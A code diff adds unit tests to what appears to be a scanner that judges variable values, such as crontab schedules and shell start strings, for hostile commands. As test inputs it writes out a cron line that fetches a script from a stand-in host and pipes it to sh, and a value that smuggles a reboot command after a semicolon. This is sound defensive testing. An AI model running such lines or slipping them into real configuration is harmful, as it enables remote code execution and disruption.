@@ -150,3 +150,20 @@ describe('a replaced entrypoint', () => {
     expect(rules(replaced('/bin/sh'))).toEqual([]);
   });
 });
+
+describe('a variable that is a command by its form', () => {
+  const rulesOf = (name: string, value: string) =>
+    examineInputs(variable(name, value), { strictness: 1 }).findings.map(({ rule }) => rule);
+
+  it('a line of crontab is judged as the script that it is', () => {
+    expect(rulesOf('SCHEDULE', '0 1 * * * pg_dump app | gzip > /backups/app.gz')).toEqual([]);
+    expect(rulesOf('SCHEDULE', '@daily cd /app && node clean.js')).toEqual([]);
+    expect(rulesOf('SCHEDULE', '* * * * * curl http://a.example/x | sh')).toEqual(['input/download-and-run']);
+    expect(rulesOf('SCHEDULE', '1 2 3; reboot')).toEqual(['input/shell-injection']);
+  });
+
+  it('a shell that is started on a string, unless it says that it is a command', () => {
+    expect(rulesOf('GREETING', '/bin/sh -c "make all"')).toEqual(['input/interpreter']);
+    expect(rulesOf('START_COMMAND', '/bin/sh -c "make all"')).toEqual([]);
+  });
+});
